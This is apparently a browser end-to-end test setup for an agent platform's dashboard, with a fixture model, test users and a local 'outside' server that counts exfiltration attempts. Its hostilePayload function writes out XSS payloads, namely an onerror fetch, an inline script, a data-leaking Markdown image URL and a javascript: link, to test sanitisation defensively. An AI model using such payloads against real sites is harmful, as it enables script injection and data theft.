/**
 * The world the browser tests run in: an embedded `autonoma serve` on a temporary home with an owner
 * and a viewer, agents made for each journey, the loopback OpenAI fixture answering by goal, an
 * "outside" server that counts every request it gets (what an exfiltration would reach), and
 * Debian's Chromium. {@link startScenario} builds it; `close` takes all of it down, whatever failed.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AgentSpecInput } from '@autonoma/core';
import type { Page } from 'playwright-core';
import type {
  Fixture,
  FixtureReply,
  RecordedRequest,
} from '../../../packages/platform/test/fixtures/openai-server.ts';
import { startOpenAiFixture } from '../../../packages/platform/test/fixtures/openai-server.ts';
import type { Browser, Server, TestUser } from './harness.ts';
import { ensureDashboardBuilt, launchBrowser, prepareHome, signIn, startServer } from './harness.ts';

/** The users of every scenario. */
export const users = {
  owner: { email: 'owner@example.com', password: 'correct horse battery', role: 'owner' },
  viewer: { email: 'viewer@example.com', password: 'viewer horse battery', role: 'viewer' },
} as const satisfies Record<string, TestUser>;

/** Goals the fixture model knows. */
export const goals = {
  /** Delegates "find a name" to `helper`, writes greeting.txt (approval), streams its answer. */
  greeting: 'write a greeting',
  /** Writes guestbook.txt: waits for approval. */
  guestbook: 'sign the guestbook',
  /** Writes a hostile page, reads it back, and repeats it as its answer. */
  hostile: 'render the hostile page',
  /** Writes notes, nine per step, until its log passes 2,000 events; streams its answer. */
  notes: 'write many notes',
} as const;

/** Steps of the `notes` run: 9 tool calls a step make 22 events, so 100 steps pass 2,000 events. */
export const noteSteps = 100;

const agents: AgentSpecInput[] = [
  {
    name: 'careful',
    instructions: 'Write what you are asked to; ask a helper for what you do not know.',
    brain: 'model',
    tools: ['fs_write', 'fs_read', 'delegate'],
    approval: { minRisk: 'none', tools: ['fs_write'] },
  },
  { name: 'helper', instructions: 'Answer in one word.', brain: 'model', tools: [] },
  {
    name: 'auditor',
    instructions: 'Audit the workspace and write a report.',
    brain: 'planner',
    tools: ['analyze_source_tree', 'write_report'],
    budgets: { maxSteps: 6 },
  },
  {
    name: 'reader',
    brain: 'model',
    tools: ['fs_write', 'fs_read'],
    approval: { minRisk: 'none', tools: [] },
  },
  {
    name: 'scribe',
    brain: 'model',
    tools: ['fs_write'],
    approval: { minRisk: 'none', tools: [] },
    budgets: { maxSteps: noteSteps + 20, maxWallMs: 30 * 60_000 },
    // A small window: the model is sent a bounded context however long the run gets.
    memory: { workingTokens: 2000, recallLimit: 0 },
  },
];

/** A value that resolves when `release` is called. */
export interface Gate {
  promise: Promise<void>;
  release(): void;
}

function gate(): Gate {
  let release = (): void => undefined;
  const promise = new Promise<void>((resolve) => (release = resolve));
  return { promise, release };
}

interface Message {
  role?: string;
  content?: unknown;
}

const messagesOf = (request: RecordedRequest): Message[] =>
  (request.body as { messages?: Message[] } | undefined)?.messages ?? [];

/** The goal a model request is about: the text after `Goal: ` in its first user message. */
function goalOf(request: RecordedRequest): string {
  const user = messagesOf(request).find((message) => message.role === 'user');
  const text = typeof user?.content === 'string' ? user.content : JSON.stringify(user?.content ?? '');
  return /Goal: ([^\n"]+)/.exec(text)?.[1]?.trim() ?? '';
}

const toolResultCount = (request: RecordedRequest): number =>
  messagesOf(request).filter((message) => message.role === 'tool').length;

/**
 * What the hostile page holds: raw HTML with an `onerror` handler, an inline script, and a Markdown
 * image whose URL would carry data to the outside server.
 */
export const hostilePayload = (outside: string): string =>
  [
    '# Report',
    `<img src=x onerror="window.__xss='img';fetch('${outside}/onerror')">`,
    `<script>window.__xss='script'</script>`,
    `![tracking pixel](${outside}/leak?d=secret-data)`,
    `[a link](javascript:window.__xss='link')`,
  ].join('\n\n');

/** The outside server: it answers anything, and remembers what it was asked. */
async function startOutside(): Promise<{ url: string; requests: string[]; close(): Promise<void> }> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? '/');
    response.writeHead(200, { 'content-type': 'image/gif', 'access-control-allow-origin': '*' });
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Everything a browser test stands on. */
export interface Scenario {
  server: Server;
  browser: Browser;
  page: Page;
  model: Fixture;
  outside: { url: string; requests: string[] };
  /** Held until released: the streamed answer of `greeting` (after its first two words). */
  greetingAnswer: Gate;
  /** Held until released: the streamed answer of `notes`. */
  notesAnswer: Gate;
  /** Model requests of the `notes` run so far. */
  notesRequests(): number;
  /** A JSON request to the server, signed in as `user` (from the test, not the browser). */
  api<T>(user: TestUser, method: string, path: string, body?: unknown): Promise<{ status: number; body: T }>;
  close(): Promise<void>;
}

/** Builds the scenario; on a failure half-way, takes down what it had started. */
export async function startScenario(): Promise<Scenario> {
  ensureDashboardBuilt();
  const cleanups: (() => Promise<unknown> | void)[] = [];
  const close = async (): Promise<void> => {
    for (const cleanup of cleanups.reverse()) await Promise.resolve(cleanup()).catch(() => undefined);
  };
  try {
    const greetingAnswer = gate();
    const notesAnswer = gate();
    // Whatever happens, the held answers are released so no request hangs at the end.
    cleanups.push(() => {
      greetingAnswer.release();
      notesAnswer.release();
    });
    const outside = await startOutside();
    cleanups.push(() => outside.close());
    let notes = 0;
    const model = await startOpenAiFixture((request): FixtureReply => {
      const goal = goalOf(request);
      const results = toolResultCount(request);
      switch (goal) {
        case goals.greeting:
          if (results === 0)
            return {
              kind: 'tool-calls',
              text: 'I will ask a helper for a name.',
              calls: [{ name: 'delegate', input: { goal: 'find a name', agent: 'helper' } }],
            };
          if (results === 1)
            return {
              kind: 'tool-calls',
              calls: [{ name: 'fs_write', input: { path: 'greeting.txt', content: 'Hello, Ada!' } }],
            };
          return {
            kind: 'text',
            text: 'Hello, Ada! The greeting is in greeting.txt.',
            chunks: ['Hello, ', 'Ada! ', 'The greeting ', 'is in ', 'greeting.txt.'],
            pauseAfterChunks: 2,
            resume: greetingAnswer.promise,
            usage: { inputTokens: 120, outputTokens: 12 },
          };
        case 'find a name':
          return { kind: 'text', text: 'Ada', usage: { inputTokens: 30, outputTokens: 1 } };
        case goals.guestbook:
          return results === 0
            ? {
                kind: 'tool-calls',
                calls: [{ name: 'fs_write', input: { path: 'guestbook.txt', content: 'signed' } }],
              }
            : { kind: 'text', text: 'Signed.' };
        case goals.hostile: {
          const payload = hostilePayload(outside.url);
          if (results === 0)
            return {
              kind: 'tool-calls',
              calls: [{ name: 'fs_write', input: { path: 'page.md', content: payload } }],
            };
          if (results === 1)
            return { kind: 'tool-calls', calls: [{ name: 'fs_read', input: { path: 'page.md' } }] };
          return { kind: 'text', text: payload };
        }
        case goals.notes: {
          notes += 1;
          if (notes <= noteSteps)
            return {
              kind: 'tool-calls',
              calls: Array.from({ length: 9 }, (_, index) => ({
                name: 'fs_write',
                input: { path: `notes/${notes}-${index}.txt`, content: `note ${notes}.${index}` },
              })),
              usage: { inputTokens: 200, outputTokens: 40 },
            };
          return {
            kind: 'text',
            text: `Wrote ${noteSteps * 9} notes.`,
            chunks: ['Wrote ', `${noteSteps * 9} `, 'notes.'],
            pauseAfterChunks: 1,
            resume: notesAnswer.promise,
          };
        }
        default:
          // Chat turns and anything else: a short answer.
          return { kind: 'text', text: `Noted: ${goal || 'your message'}.` };
      }
    });
    cleanups.push(() => model.close());

    const home = mkdtempSync(join(tmpdir(), 'autonoma-e2e-'));
    cleanups.push(() => rmSync(home, { recursive: true, force: true }));
    const env = {
      AUTONOMA_HOME: join(home, 'home'),
      AUTONOMA_MODEL: 'openai-compatible:fixture',
      AUTONOMA_MODEL_BASE_URL: `${model.url}/v1`,
      // The browser signs in many times in a few minutes; the throttle is tested elsewhere.
      AUTONOMA_RATE_LIMIT: '100000',
      AUTONOMA_RATE_LIMIT_IP: '100000',
    };
    await prepareHome({ users: Object.values(users), agents, env });
    const server = await startServer(env);
    cleanups.push(() => server.stop());
    const browser = await launchBrowser();
    cleanups.push(() => browser.close());

    const tokens = new Map<string, string>();
    const api = async <T>(
      user: TestUser,
      method: string,
      path: string,
      body?: unknown,
    ): Promise<{ status: number; body: T }> => {
      let token = tokens.get(user.email);
      if (!token) {
        const login = await fetch(`${server.url}/v1/auth/login`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ email: user.email, password: user.password }),
        });
        if (!login.ok) throw new Error(`sign-in of ${user.email}: ${login.status} ${await login.text()}`);
        token = ((await login.json()) as { accessToken: string }).accessToken;
        tokens.set(user.email, token);
      }
      const response = await fetch(`${server.url}${path}`, {
        method,
        headers: {
          authorization: `Bearer ${token}`,
          ...(body === undefined ? {} : { 'content-type': 'application/json' }),
        },
        ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      });
      const text = await response.text();
      return { status: response.status, body: (text ? JSON.parse(text) : undefined) as T };
    };

    return {
      server,
      browser,
      page: browser.page,
      model,
      outside,
      greetingAnswer,
      notesAnswer,
      notesRequests: () => notes,
      api,
      close,
    };
  } catch (error) {
    await close();
    throw error;
  }
}

/** Signs out whoever is signed in (if anyone), then signs `user` in on the current page. */
export async function signInAs(page: Page, user: TestUser): Promise<void> {
  const signOut = page.getByRole('navigation', { name: 'main' }).getByRole('button', { name: 'Sign out' });
  const form = page.getByRole('form', { name: 'sign in', exact: true });
  await Promise.race([signOut.waitFor(), form.waitFor()]);
  if (await signOut.isVisible()) {
    await signOut.click();
    await form.waitFor();
  }
  await signIn(page, user);
  await page.getByRole('navigation', { name: 'main' }).getByText(`${user.email} · ${user.role}`).waitFor();
}
